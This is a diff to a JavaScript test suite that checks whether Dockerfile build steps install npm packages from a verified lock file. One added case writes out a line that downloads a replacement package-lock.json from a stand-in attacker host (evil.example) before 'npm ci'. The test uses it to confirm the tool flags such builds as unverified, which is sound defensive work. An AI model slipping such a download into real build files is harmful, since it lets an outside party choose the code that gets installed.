@@ -483,6 +483,22 @@ describe('a lock file verifies packages', () => {
   });
 
   test.each([
+    ['it is copied', 'COPY package*.json .\nRUN npm ci', 'digest the lock file'],
+    ['it is mounted', 'RUN --mount=type=bind,target=. npm ci', 'digest the lock file'],
+    ['it is copied later', 'RUN npm ci\nCOPY . .', 'unknown -'],
+    ['only another file is copied', 'COPY package.json .\nRUN npm ci', 'unknown -'],
+    [
+      'another one is downloaded',
+      'COPY . .\nADD https://evil.example/package-lock.json .\nRUN npm ci',
+      'unknown -',
+    ],
+  ])('where %s', async (_, script, expected) => {
+    const lock = npmLock({ integrity: 'sha512-x' });
+    const files = { Dockerfile: `FROM a\n${script}\n`, 'package-lock.json': lock };
+    expect(await verified(files)).toEqual([expected]);
+  });
+
+  test.each([
     ['a package without a hash', 'package-lock.json', npmLock({})],
     ['a hash that can be forged', 'package-lock.json', npmLock({ integrity: 'sha1-x' })],
     [
